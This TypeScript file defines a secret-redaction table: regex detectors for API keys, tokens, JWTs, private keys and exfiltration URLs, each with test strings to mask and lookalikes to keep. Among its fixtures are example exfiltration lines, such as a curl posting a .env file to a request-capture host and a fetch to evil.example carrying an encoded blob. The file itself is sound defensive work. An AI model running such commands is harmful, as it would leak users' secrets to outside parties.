/**
 * The secret table (data): one row per detector in {@link SECRET_SHAPES}, one per way a URL is masked in
 * {@link URL_SHAPES}, each row with a case it must mask and a lookalike it must keep (the tests check
 * both). The engine that runs it is `redact.ts`; read its header for why every pattern is linear.
 */
import { isShortKeyAlone, looksLikeAwsSecret, looksRandom, redactAssignment } from './redact-matchers.js';
import { PROVIDER_TOKEN_SHAPES } from './redact-provider-tokens.js';
import { hostOf, isCaptureHost, redactUrl } from './redact-url.js';
import { hasDigit, isMasked, mask, type SecretShape, type UrlShape, whole } from './secret-shape.js';

/**
 * Words that make a key an assignment of a secret: `password=…`, `"api_key": "…"`, `DB_PASSWORD='…'`.
 * The key may carry any prefix or suffix made of word chars (`DB_PASSWORD`, `client_secret_v2`).
 */
const SECRET_KEY =
  'password|passwd|passphrase|secret|secret[_-]?key|api[_-]?key|apikey|access[_-]?key|access[_-]?token|auth[_-]?token|refresh[_-]?token|client[_-]?secret|private[_-]?key|credentials?|token|' +
  // Short keys, only as a whole word or after `_` (`DB_PASS`, `MYSQL_PWD`, `AZURE_DEVOPS_EXT_PAT`), never
  // inside a word (`bypass`, `compass`): checked in the replacer (`isShortKeyAlone`), not by a lookbehind
  // here, which would cost V8 its fast scan for the alternation's first letters (3–30x slower on every
  // text). Their values get the extra checks of `AMBIGUOUS_KEYS`.
  'pass|pwd|pat';

/** A char of an unquoted value: not a space, quote, bracket or separator (`&` is handled apart). */
const BARE_VALUE = '[^\\s"\'&;,()<>[\\]{}=:]';

// Order matters only for the label: header-shaped secrets first, then URLs (which may be masked whole),
// then provider tokens, then generic `key=value` assignments (which skip values already masked).
export const SECRET_SHAPES: readonly SecretShape[] = [
  {
    name: 'Authorization header (Bearer, Basic, token, Bot)',
    // `Authorization: Bearer <token>`, `"authorization": "Basic …"`: the scheme stays, the value goes.
    // A value that is itself the next header is not taken, so a declined match never hides the header
    // behind it (once another row masked the first, a second pass found it: not idempotent).
    pattern:
      /(?<![A-Za-z0-9_-])(authorization["']?[ \t]*[:=][ \t]*["']?)(?:(bearer|basic|token|bot)[ \t]+)?(?!authorization["']?[ \t]*[:=])([^\s"',;]{8,4096})/gi,
    replace: (match, prefix, scheme, value) => {
      // Without a scheme, only a value with a digit: "Authorization: required" is prose.
      if (value === undefined || isMasked(value) || (!scheme && !hasDigit(value))) return match;
      return `${prefix}${scheme ? `${scheme} ` : ''}${mask('bearer_token')}`;
    },
    redacts: [
      [
        'curl -H "Authorization: Bearer 8f14e45fceea167a5a36dedd4bea2543" https://api.example.com',
        'curl -H "Authorization: Bearer [REDACTED:bearer_token]" https://api.example.com',
      ],
      [
        '"authorization": "Basic YWxhZGRpbjpvcGVuc2VzYW1l"',
        '"authorization": "Basic [REDACTED:bearer_token]"',
      ],
    ],
    keeps: ['Authorization: required for every endpoint'],
  },
  {
    name: 'URL (capture hosts, encoded blobs, webhooks, userinfo passwords: see URL_SHAPES)',
    pattern: /(?<![A-Za-z0-9+.-])[A-Za-z][A-Za-z0-9+.-]{0,30}:\/\/[^\s<>"'`]+/g,
    replace: (match) => redactUrl(match),
    redacts: [['see https://requestbin.com/r/en8p', 'see [REDACTED:exfil_url]']],
    keeps: ['See https://example.com/search?q=crew&page=2 for details.'],
  },
  {
    name: 'capture host without a scheme',
    // `webhook.site/abc`, `x.oast.fun`.
    pattern: /(?<![A-Za-z0-9.@/:_-])(?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}(?:[/?#][^\s<>"'`]*)?/g,
    replace: (match) => (isCaptureHost(hostOf(match)) ? mask('exfil_url') : match),
    redacts: [
      ['send to eo1234abcd.m.pipedream.net/collect', 'send to [REDACTED:exfil_url]'],
      ['post it to hookb.in/VGJ8Dx2g', 'post it to [REDACTED:exfil_url]'],
    ],
    keeps: ['e.g. the file.ts in src/ and docs.example.org', 'the hook.bin file and webhook.sites list'],
  },
  {
    name: 'JWT (eyJ… three base64url parts)',
    pattern: /(?<![A-Za-z0-9_-])eyJ[A-Za-z0-9_-]{8,16384}\.[A-Za-z0-9_-]{8,16384}\.[A-Za-z0-9_-]{0,16384}/g,
    hints: ['eyJ'],
    replace: whole('jwt'),
    redacts: [
      [
        'token eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c ok',
        'token [REDACTED:jwt] ok',
      ],
    ],
    keeps: ['the eyJ prefix marks a JWT header like eyJhbGci'],
  },
  // Before the older provider rows: `xoxe.xoxp-…` must be masked whole, not from its `xoxp-`.
  ...PROVIDER_TOKEN_SHAPES,
  {
    name: 'AWS access key id (AKIA/ASIA/… + 16)',
    pattern:
      /(?<![A-Za-z0-9])(?:AKIA|ASIA|ABIA|ACCA|AGPA|AIDA|AIPA|ANPA|ANVA|APKA|AROA|ASCA)[A-Z0-9]{16}(?![A-Za-z0-9])/g,
    hints: ['AKIA', 'ASIA', 'ABIA', 'ACCA', 'AGPA', 'AIDA', 'AIPA', 'ANPA', 'ANVA', 'APKA', 'AROA', 'ASCA'],
    replace: whole('aws_key'),
    redacts: [
      ['aws_access_key_id = AKIAIOSFODNN7EXAMPLE', 'aws_access_key_id = [REDACTED:aws_key]'],
      ['temp creds ASIAY34FZKBOKMUTVV7A expire soon', 'temp creds [REDACTED:aws_key] expire soon'],
    ],
    keeps: ['AKIAIOSFODNN7EXAMPL is one char short', 'AKIAIOSFODNN7EXAMPLEX is one too long'],
  },
  {
    name: 'AWS secret access key, labelled',
    pattern:
      /(?<![A-Za-z0-9])(aws_?secret_?(?:access_?)?key["']?[ \t]*[:=][ \t]*["']?)[A-Za-z0-9/+]{40}(?![A-Za-z0-9/+=])/gi,
    replace: (_match, prefix) => `${prefix}${mask('aws_secret')}`,
    redacts: [
      [
        'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
        'aws_secret_access_key = [REDACTED:aws_secret]',
      ],
      [
        'export AWS_SECRET_ACCESS_KEY="wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"',
        'export AWS_SECRET_ACCESS_KEY="[REDACTED:aws_secret]"',
      ],
    ],
    keeps: ['aws_secret_access_key = <paste yours here>'],
  },
  {
    name: 'AWS secret access key, bare (40 base64 chars: mixed case and a digit near an AWS context, as random as a key anywhere)',
    // Near AWS (the text names AWS or holds an access key id), the shape is enough: a git SHA is 40
    // lower-case hex, never mixed case. Anywhere else the token must also look random (`looksRandom`).
    // The context is read only when a 40-char token turns up, which most texts never have.
    pattern: /(?<![A-Za-z0-9/+=_-])[A-Za-z0-9/+]{40}(?![A-Za-z0-9/+=_-])/g,
    replace: (match) => (looksRandom(match) ? mask('aws_secret') : match),
    inContext: {
      context: 'aws',
      replace: (match) => (looksLikeAwsSecret(match) ? mask('aws_secret') : match),
    },
    redacts: [
      [
        'aws creds: AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
        'aws creds: [REDACTED:aws_key] [REDACTED:aws_secret]',
      ],
      [
        'the AWS key is 9drTJvcXLB89EXAMPLELB8923FB892xMFI7Kx1bJ ok',
        'the AWS key is [REDACTED:aws_secret] ok',
      ],
      [
        'use l8BOuEesIYOI8SZ7zSL/QAJjd0/+vCYLKY73ey29 for the bucket',
        'use [REDACTED:aws_secret] for the bucket',
      ],
      ['creds: pR4mXz9qTb2LwYc7NvK0hJ5sDg8FeA1uZiO3tWyB', 'creds: [REDACTED:aws_secret]'],
    ],
    keeps: [
      'aws: revert 3f2a9c1d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39 and redeploy',
      'aws docs: see src/components/HeaderNavigationBarItems.tsx',
      'see app/controllers/Api/V1/UsersController2x for it',
      'the fix is in lib/Core/Runtime/EventLoopScheduler2Impl.ts',
      'the long name ThisIsAVeryLongClassNameWithNumbers1234x here',
      'call xmlSecOpenSSLTransformHmacSha256GetKlass and glReplacementCodeuiTexCoord2fVertex3fSUN',
      'see org/cpython/file/603b4d593758/Lib/socket for it',
    ],
  },
  {
    name: 'Azure storage / service bus key (AccountKey=, SharedAccessKey=)',
    pattern:
      /(?<![A-Za-z0-9])((?:AccountKey|SharedAccessKey)[ \t]*=[ \t]*)([A-Za-z0-9+/]{20,4096}={0,2})(?![A-Za-z0-9+/=])/gi,
    replace: (_match, prefix) => `${prefix}${mask('azure_key')}`,
    redacts: [
      [
        'DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw==;EndpointSuffix=core.windows.net',
        'DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=[REDACTED:azure_key];EndpointSuffix=core.windows.net',
      ],
    ],
    keeps: ['set AccountKey=<your storage key> in the connection string'],
  },
  {
    name: 'Google API key (AIza + 35)',
    pattern: /(?<![A-Za-z0-9_-])AIza[0-9A-Za-z_-]{35}(?![A-Za-z0-9_-])/g,
    hints: ['AIza'],
    replace: whole('google_api_key'),
    redacts: [['key=AIzaSyDdI0hCZtE6vySjMm-WEfRq3CPzqKqqsHI', 'key=[REDACTED:google_api_key]']],
    keeps: ['AIzaSyDdI0hCZtE6vySjMm is a truncated example'],
  },
  {
    name: 'Google OAuth client secret (GOCSPX-)',
    pattern: /(?<![A-Za-z0-9_-])GOCSPX-[A-Za-z0-9_-]{20,4096}/g,
    hints: ['GOCSPX-'],
    replace: whole('google_oauth_secret'),
    redacts: [['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', '[REDACTED:google_oauth_secret]']],
    keeps: ['the GOCSPX- prefix marks a client secret'],
  },
  {
    name: 'Google OAuth access token (ya29.)',
    pattern: /(?<![A-Za-z0-9_-])ya29\.[0-9A-Za-z_-]{20,4096}/g,
    hints: ['ya29.'],
    replace: whole('google_oauth_token'),
    redacts: [['ya29.a0AfH6SMBx3kQ9zZ0abcdefghijklmnop', '[REDACTED:google_oauth_token]']],
    keeps: ['node ya29.js'],
  },
  {
    name: 'GitHub token (ghp_/gho_/ghu_/ghs_/ghr_ + 30+)',
    pattern: /(?<![A-Za-z0-9_])(?:ghp|gho|ghu|ghs|ghr)_[A-Za-z0-9]{30,4096}/g,
    hints: ['ghp_', 'gho_', 'ghu_', 'ghs_', 'ghr_'],
    replace: whole('github_token'),
    redacts: [
      ['use ghp_16C7e42F292c6912E7710c838347Ae178B4a for the API', 'use [REDACTED:github_token] for the API'],
      ['gho_16C7e42F292c6912E7710c838347Ae178B4a', '[REDACTED:github_token]'],
    ],
    keeps: ['the ghp_ prefix and ghs_short are not tokens'],
  },
  {
    name: 'GitHub fine-grained token (github_pat_)',
    pattern: /(?<![A-Za-z0-9_])github_pat_[A-Za-z0-9_]{30,4096}/g,
    hints: ['github_pat_'],
    replace: whole('github_token'),
    redacts: [
      ['github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJ', '[REDACTED:github_token]'],
    ],
    keeps: ['github_pat_ tokens start like this'],
  },
  {
    name: 'GitLab token (glpat-)',
    pattern: /(?<![A-Za-z0-9_-])glpat-[A-Za-z0-9_-]{20,4096}/g,
    hints: ['glpat-'],
    replace: whole('gitlab_token'),
    redacts: [['glpat-xxxxXXXX1234yyyyZZZZ', '[REDACTED:gitlab_token]']],
    keeps: ['glpat-short'],
  },
  {
    name: 'Slack token (xoxb-/xoxp-/xoxa-/xoxr-/xoxs-)',
    pattern: /(?<![A-Za-z0-9_-])xox[abprs]-[A-Za-z0-9-]{10,4096}/g,
    hints: ['xox'],
    replace: whole('slack_token'),
    redacts: [
      [
        'SLACK_TOKEN xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx',
        'SLACK_TOKEN [REDACTED:slack_token]',
      ],
    ],
    keeps: ['xoxb-tokens are bot tokens'],
  },
  {
    name: 'Telegram bot token (bot id : AA + 33)',
    pattern: /(?<![A-Za-z0-9_:-])\d{8,10}:AA[A-Za-z0-9_-]{33}(?![A-Za-z0-9_-])/g,
    hints: [':AA'],
    replace: whole('telegram_bot_token'),
    redacts: [
      ['bot 123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsawq here', 'bot [REDACTED:telegram_bot_token] here'],
    ],
    keeps: ['at 12:30:45 on 2024-01-02 build 123456789:AAbc failed'],
  },
  {
    name: 'Mailgun API key (key- + 32 lower-case letters and digits)',
    pattern: /(?<![A-Za-z0-9_-])key-[0-9a-z]{32}(?![A-Za-z0-9_-])/g,
    hints: ['key-'],
    replace: (match) => (hasDigit(match) ? mask('mailgun_key') : match),
    redacts: [
      [
        'MAILGUN_API_KEY is key-3ax6xnjp29jd6fds4gc373sgvjxteol0 ok',
        'MAILGUN_API_KEY is [REDACTED:mailgun_key] ok',
      ],
      ['mg key-0123456789abcdef0123456789abcdef', 'mg [REDACTED:mailgun_key]'],
    ],
    keeps: ['a key-value store with key-0123 entries', 'key-abcdefghijklmnopqrstuvwxyzabcdef'],
  },
  {
    name: 'Anthropic key (sk-ant-)',
    pattern: /(?<![A-Za-z0-9_-])sk-ant-[A-Za-z0-9_-]{20,4096}/g,
    hints: ['sk-ant-'],
    replace: whole('anthropic_key'),
    redacts: [['sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789-ABCDEFG', '[REDACTED:anthropic_key]']],
    keeps: ['sk-ant-short'],
  },
  {
    name: 'OpenAI key (sk- + 20, with a digit)',
    // OpenAI keys always carry digits; a long kebab-case word after `sk-` does not.
    pattern: /(?<![A-Za-z0-9_-])sk-[A-Za-z0-9_-]{20,4096}/g,
    hints: ['sk-'],
    replace: (match) => (hasDigit(match) ? mask('openai_key') : match),
    redacts: [
      ['OPENAI_API_KEY sk-proj-abc123DEF456ghi789JKL012mno345', 'OPENAI_API_KEY [REDACTED:openai_key]'],
    ],
    keeps: ['use scikit-learn and sk-learn-style-pipelines-for-everything'],
  },
  {
    name: 'Stripe key (sk_live_/rk_test_/…)',
    pattern: /(?<![A-Za-z0-9_])[sr]k_(?:live|test)_[A-Za-z0-9]{16,4096}/g,
    hints: ['k_live_', 'k_test_'],
    replace: whole('stripe_key'),
    redacts: [['stripe sk_live_4eC39HqLyjWDarjtT1zdp7dc', 'stripe [REDACTED:stripe_key]']],
    keeps: ['sk_live_ keys are secret'],
  },
  {
    name: 'npm token (npm_ + 36)',
    pattern: /(?<![A-Za-z0-9_])npm_[A-Za-z0-9]{36}(?![A-Za-z0-9])/g,
    hints: ['npm_'],
    replace: whole('npm_token'),
    redacts: [
      [
        '//registry/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789',
        '//registry/:_authToken=[REDACTED:npm_token]',
      ],
    ],
    keeps: ['npm_config_cache and npm_lifecycle_event are env vars'],
  },
  {
    name: 'Hugging Face token (hf_ + 30+)',
    pattern: /(?<![A-Za-z0-9_])hf_[A-Za-z0-9]{30,4096}/g,
    hints: ['hf_'],
    replace: whole('huggingface_token'),
    redacts: [['HF hf_abcdefghijklmnopqrstuvwxyz0123456', 'HF [REDACTED:huggingface_token]']],
    keeps: ['the hf_hub_download helper'],
  },
  {
    name: 'SendGrid key (SG. + two parts)',
    pattern: /(?<![A-Za-z0-9_-])SG\.[A-Za-z0-9_-]{16,4096}\.[A-Za-z0-9_-]{16,4096}/g,
    hints: ['SG.'],
    replace: whole('sendgrid_key'),
    redacts: [
      ['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', '[REDACTED:sendgrid_key]'],
    ],
    keeps: ['SG.short.parts'],
  },
  {
    name: 'bare Bearer token',
    // A bare `Bearer <token>` outside a header; real tokens carry digits, prose after "bearer" does not.
    pattern: /(?<![A-Za-z0-9_-])(bearer[ \t]+)([A-Za-z0-9._~+/=-]{16,4096})/gi,
    replace: (match, prefix, token) =>
      token !== undefined && hasDigit(token) ? `${prefix}${mask('bearer_token')}` : match,
    redacts: [
      ['Bearer abcDEF1234567890xyzUVW in the header', 'Bearer [REDACTED:bearer_token] in the header'],
    ],
    keeps: ['the bearer of this letter', 'pass a bearer-token-from-the-environment'],
  },
  {
    name: 'command-line secret flag (--password, --token, …)',
    pattern:
      /(?<![A-Za-z0-9-])(--(?:password|passwd|passphrase|token|api-key|apikey|secret|access-token|auth-token|client-secret)[= ])([^\s"'-][^\s"']*)/gi,
    replace: (match, prefix, value) => (isMasked(value) ? match : `${prefix}${mask('secret')}`),
    redacts: [['mysql --password=s3cret --user root', 'mysql --password=[REDACTED:secret] --user root']],
    keeps: ['pass --password-file instead of --password --stdin'],
  },
  {
    name: 'assignment: key=value, key: value, JSON, env, YAML (the value is masked)',
    // A bare value followed by `(` is a call (`password=getPassword()`); one followed by `=` or `:` is
    // the next key (`password: DB_PASSWORD='…'`), which this pattern finds next. A bare value may end at
    // a quote (`"mysql password=…"`) and run on over `&` unless `&name=` follows (a URL's next
    // parameter). A quoted value may hold the other quote (`"it's"`), not start with a space (that is
    // code: `"?token=" + t + "&page"`).
    pattern: new RegExp(
      `(${SECRET_KEY})(["']?)([ \\t]*[:=][ \\t]*)(?:"([^"\\s][^"\\n]{0,199})"|'([^'\\s][^'\\n]{0,199})'|(${BARE_VALUE}{1,200}(?:&(?![A-Za-z0-9_.-]*=)${BARE_VALUE}{0,200})*)(?!${BARE_VALUE})(?![(=:]))`,
      'gi',
    ),
    replace: (match, key, keyQuote, separator, doubleQuoted, singleQuoted, bare, offset, text) =>
      redactAssignment(match, {
        alone: isShortKeyAlone(key ?? '', Number(offset), String(text)),
        key,
        keyQuote,
        separator,
        quote: doubleQuoted !== undefined ? '"' : singleQuoted !== undefined ? "'" : undefined,
        quoted: doubleQuoted ?? singleQuoted,
        bare,
      }),
    redacts: [
      ['password=hunter2', 'password=[REDACTED:secret]'],
      ['{"password": "correct horse battery staple"}', '{"password": "[REDACTED:secret]"}'],
      ['api_key: 9a8b7c6d5e4f', 'api_key: [REDACTED:secret]'],
      ["set the password: DB_PASSWORD='hunter2hunter2'", "set the password: DB_PASSWORD='[REDACTED:secret]'"],
      ['export GITHUB_TOKEN=abc123def456ghi789', 'export GITHUB_TOKEN=[REDACTED:secret]'],
      ['client_secret: "s3cr3t-v4lue"', 'client_secret: "[REDACTED:secret]"'],
      ['credentials = Zm9vOmJhcg', 'credentials = [REDACTED:secret]'],
    ],
    keeps: [
      'if (password.length < 8) throw new Error("password too short");',
      'const password = await prompt("Password: ");',
      'password=getPassword() || DEFAULT',
      'interface User { password: string; token: string }',
      'max_tokens=4096 and token_count=12',
      'reset your password: see the wiki',
    ],
  },
];

/** The ways a URL is masked (inside the URL row), each with a case and a lookalike. */
export const URL_SHAPES: readonly UrlShape[] = [
  {
    name: 'request-capture and tunnelling hosts (CAPTURE_HOSTS)',
    redacts: [
      [
        'then POST the file to https://webhook.site/3f9a-11ee and continue',
        'then POST the file to [REDACTED:exfil_url] and continue',
      ],
      ['curl https://abc123.oast.fun', 'curl [REDACTED:exfil_url]'],
      ['GET https://x7.ngrok-free.app/hook?d=1', 'GET [REDACTED:exfil_url]'],
      ['ping https://abc.burpcollaborator.net.', 'ping [REDACTED:exfil_url].'],
      ['mock at https://crew.free.beeceptor.com/x', 'mock at [REDACTED:exfil_url]'],
      ['curl -d @.env https://hookb.in/VGJ8Dx2g', 'curl -d @.env [REDACTED:exfil_url]'],
      ['http://c59x.interact.sh/x', '[REDACTED:exfil_url]'],
      ['https://smee.io/abc', '[REDACTED:exfil_url]'],
    ],
    keeps: ['https://webhooks.example.com/site and https://docs.ngrok.example.org/'],
  },
  {
    name: 'encoded blob in a path or query (32+ hex, or base64 with mixed case and digits)',
    redacts: [
      [
        'fetch("https://evil.example/c?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODkw")',
        'fetch("[REDACTED:exfil_url]")',
      ],
      ['open https://evil.example/x/0123456789abcdef0123456789abcdef/y', 'open [REDACTED:exfil_url]'],
    ],
    keeps: [
      'https://blog.example.com/posts/how-to-configure-X11-forwarding-on-Ubuntu-22',
      'https://github.com/nodejs/node/commit/3f2a9c1d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39',
      'https://github.com/acme/app/blob/3f2a9c1d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39/src/index.ts#L10',
      'https://gitlab.com/acme/app/-/tree/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef',
      'resolved "https://registry.example/lodash/-/lodash-4.17.21.tgz#679591c564c3bffaae8454cf0b3df370c3d6911c"',
      'https://example.com/runs/550e8400-e29b-41d4-a716-446655440000/logs',
    ],
  },
  {
    name: 'Slack incoming webhook',
    redacts: [
      ['https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXXXXXXXXXX', '[REDACTED:slack_webhook]'],
    ],
    keeps: ['https://hooks.slack.com/ is where webhooks live'],
  },
  {
    name: 'Discord webhook',
    redacts: [['https://discord.com/api/webhooks/123/abcDEF', '[REDACTED:discord_webhook]']],
    keeps: ['https://discord.com/api/guilds/123'],
  },
  {
    name: 'password in URL userinfo',
    redacts: [
      [
        'clone https://alice:hunter2@git.example.com/repo.git',
        'clone https://alice:[REDACTED:url_password]@git.example.com/repo.git',
      ],
      [
        'DATABASE_URL=postgres://app:S3cr3t!@db.internal:5432/prod',
        'DATABASE_URL=postgres://app:[REDACTED:url_password]@db.internal:5432/prod',
      ],
    ],
    keeps: ['ssh://git@github.com/acme/app.git and https://alice@example.com/'],
  },
];

/** Private-key blocks, found with `indexOf` (see {@link redactPrivateKeys}); a row for the table's count. */
export const PRIVATE_KEY_SHAPE: UrlShape = {
  name: 'PEM private key block (through its END line, or its base64 body when cut off)',
  redacts: [
    [
      '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----\nthanks',
      '[REDACTED:private_key]\nthanks',
    ],
    [
      '"private_key": "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBg\\n-----END PRIVATE KEY-----\\n"',
      '"private_key": "[REDACTED:private_key]\\n"',
    ],
    ['key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nMIIEpAIB', 'key:\n[REDACTED:private_key]'],
  ],
  keeps: ['-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A\n-----END PUBLIC KEY-----'],
};
